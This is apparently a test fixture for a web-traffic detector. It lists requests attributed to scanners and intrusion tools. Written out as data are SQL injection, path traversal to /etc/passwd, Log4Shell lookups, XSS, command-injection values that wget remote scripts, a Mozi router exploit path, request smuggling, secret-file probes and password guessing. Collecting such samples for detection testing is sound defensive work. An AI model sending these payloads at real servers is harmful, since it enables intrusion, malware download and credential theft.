import type { Capture, Sent } from './replay.ts'

const agent = (name: string): Capture['headers'] => [
  ['User-Agent', name],
  ['Accept', '*/*']
]
const chrome = agent(
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/98.0.4758.102 Safari/537.36'
)

const words = [
  'admin',
  'login',
  'test',
  'dev',
  'old',
  'new',
  'tmp',
  'img',
  'js',
  'css',
  'data',
  'db',
  'src',
  'bin',
  'lib',
  'log',
  'logs',
  'api',
  'v1',
  'v2',
  'user',
  'users',
  'private',
  'secret',
  'hidden',
  'upload',
  'uploads',
  'download',
  'files',
  'file',
  'backup',
  'backups',
  'config',
  'conf',
  'setup',
  'install',
  'panel',
  'manage',
  'manager',
  'root',
  'server',
  'web',
  'site',
  'portal',
  'shop',
  'store',
  'cart',
  'order',
  'pay',
  'mail',
  'ftp',
  'ssh',
  'git',
  'svn',
  'cvs',
  'doc',
  'docs',
  'help',
  'info',
  'stat',
  'stats',
  'status',
  'monitor',
  'health',
  'ping',
  'debug',
  'trace',
  'error',
  'errors',
  'home',
  'index',
  'main',
  'default',
  'search',
  'find',
  'list',
  'view',
  'edit',
  'delete',
  'add',
  'create',
  'update',
  'save',
  'load',
  'get',
  'set',
  'put',
  'post',
  'json',
  'xml',
  'csv',
  'txt',
  'pdf',
  'zip',
  'tar',
  'rar',
  'java',
  'perl',
  'ruby',
  'node',
  'rails',
  'django',
  'flask',
  'spring'
]
const wordlist = words.map((word) => `/gone/${word}`)

const passwords = (path: string, count: number): Sent[] =>
  Array.from({ length: count }, (_, index) => ({
    path,
    body: `username=admin&password=pass${index}`,
    headers: [['Content-Type', 'application/x-www-form-urlencoded']]
  }))

/** What scanners and intruders send, as the tools of that name do. */
export const scanners: readonly Capture[] = [
  {
    name: 'nikto',
    headers: agent('Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)'),
    requests: ['/gone/', '/gone/cgi-bin/', '/gone/admin/']
  },
  {
    name: 'sqlmap',
    headers: agent('sqlmap/1.8.2#stable (https://sqlmap.org)'),
    requests: ['/ok/items?id=1', "/ok/items?id=1'", '/ok/items?id=1%20AND%201%3D1']
  },
  {
    name: 'sqlmap with another name',
    headers: chrome,
    requests: [
      '/ok/items?id=1%27%20OR%20%271%27%3D%271',
      '/ok/items?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--',
      '/ok/items?id=1%20AND%20SLEEP%285%29',
      '/ok/items?id=1%20AND%20EXTRACTVALUE(1,0x7e)'
    ]
  },
  {
    name: 'nmap http scripts',
    headers: agent('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'),
    requests: ['/', '/nmaplowercheck1700000000', '/HNAP1', '/evox/about']
  },
  {
    name: 'masscan',
    headers: agent('masscan/1.3 (https://github.com/robertdavidgraham/masscan)'),
    requests: ['/']
  },
  { name: 'zgrab', headers: agent('Mozilla/5.0 zgrab/0.x'), requests: ['/'] },
  { name: 'gobuster', headers: agent('gobuster/3.6'), requests: wordlist.slice(0, 20) },
  { name: 'ffuf', headers: agent('Fuzz Faster U Fool v2.1.0-dev'), requests: wordlist.slice(0, 20) },
  {
    name: 'dirb, which says it is Explorer',
    headers: agent('Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)'),
    requests: wordlist
  },
  { name: 'feroxbuster', headers: agent('feroxbuster/2.10.4'), requests: wordlist.slice(0, 5) },
  { name: 'a word list under the name of Chrome', headers: chrome, requests: wordlist },
  {
    name: 'wpscan',
    headers: agent('WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)'),
    requests: ['/gone/wp-login.php']
  },
  {
    name: 'a search for WordPress',
    headers: chrome,
    requests: ['/gone/wp-login.php', '/gone/xmlrpc.php', '/gone/blog/wp-includes/wlwmanifest.xml']
  },
  {
    name: 'nuclei',
    headers: agent(
      'Mozilla/5.0 (X11; Linux x86_64) Nuclei - Open-source project (github.com/projectdiscovery/nuclei)'
    ),
    requests: ['/ok/']
  },
  {
    name: 'nuclei with another name',
    headers: chrome,
    requests: ['/ok/.git/config', '/ok/actuator/env', '/ok/server-status']
  },
  {
    name: 'a search for secrets',
    headers: agent('python-requests/2.32.3'),
    requests: ['/.env', '/.git/HEAD', '/.aws/credentials']
  },
  {
    name: 'a search for secrets where everything is answered',
    headers: agent('Go-http-client/1.1'),
    requests: ['/ok/.env', '/ok/api/.env', '/ok/.env.bak']
  },
  {
    name: 'guesses of a password at a service',
    headers: agent('Mozilla/4.0 (Hydra)'),
    requests: passwords('/denied/login', 20)
  },
  {
    name: 'guesses of a password without a name',
    headers: agent('python-requests/2.31.0'),
    requests: passwords('/denied/login', 40)
  },
  {
    name: 'guesses with Basic',
    headers: agent('okhttp/4.9'),
    requests: Array.from({ length: 40 }, (_, index) => ({
      path: '/denied/admin',
      headers: [['Authorization', `Basic ${Buffer.from(`admin:${index}`).toString('base64')}`]] as const
    }))
  },
  {
    name: 'path traversal',
    headers: chrome,
    requests: [
      '/ok/..%2f..%2f..%2fetc%2fpasswd',
      '/ok/%2e%2e/%2e%2e/etc/passwd',
      '/ok/download?file=../../../../etc/passwd',
      '/ok/download?file=..%252f..%252fetc%252fpasswd',
      '/ok/..%5c..%5cwindows%5cwin.ini'
    ]
  },
  { name: 'Log4Shell', headers: agent('${jndi:ldap://198.51.100.1:1389/a}'), requests: ['/ok/'] },
  {
    name: 'Log4Shell in a query',
    headers: chrome,
    requests: [
      '/ok/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.1%2Fa%7D',
      '/ok/?x=${jndi:dns://198.51.100.1/b}',
      '/ok/?y=${${lower:j}ndi:ldap://198.51.100.1/c}',
      '/ok/?z=${jndi:rmi://198.51.100.1/d}'
    ]
  },
  {
    name: 'cross-site scripts',
    headers: chrome,
    requests: [
      '/ok/search?q=%3Cscript%3Ealert(1)%3C/script%3E',
      '/ok/search?q=%22%3E%3Cimg+src%3Dx+onerror%3Dalert(1)%3E',
      '/ok/search?q=javascript:alert(1)'
    ]
  },
  {
    name: 'commands',
    headers: chrome,
    requests: [
      '/ok/ping?host=127.0.0.1;cat%20/etc/passwd',
      '/ok/ping?host=`id`',
      '/ok/ping?host=$(whoami)',
      '/ok/ping?host=a|wget%20http://198.51.100.1/x.sh'
    ]
  },
  {
    name: 'home routers',
    headers: agent('Hello, world'),
    requests: [
      '/GponForm/diag_Form?images/',
      '/boaform/admin/formLogin',
      '/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.1/Mozi.m'
    ]
  },
  {
    name: 'PHPUnit and ThinkPHP',
    headers: agent('Mozilla/5.0'),
    requests: [
      '/gone/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
      '/gone/index.php?s=/index/think/app/invokefunction&function=call_user_func_array&vars[0]=system',
      '/gone/phpinfo.php',
      '/gone/phpmyadmin/index.php'
    ]
  },
  {
    name: 'smuggling',
    headers: [],
    requests: Array.from({ length: 6 }, () => ({
      path: '/',
      raw: 'POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG'
    }))
  },
  {
    name: 'methods of WebDAV',
    headers: agent('Microsoft-WebDAV-MiniRedir/10.0.19043'),
    requests: ['PROPFIND', 'MKCOL', 'MOVE', 'COPY', 'LOCK', 'SEARCH', 'TRACE', 'PROPPATCH'].map((method) => ({
      method,
      path: '/gone/dav/'
    }))
  },
  {
    name: 'made-up tokens',
    headers: agent('python-httpx/0.27'),
    requests: Array.from({ length: 12 }, (_, index) => ({
      path: '/private/x',
      headers: [['Authorization', `Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIke${index}In0.`]] as const
    }))
  }
]
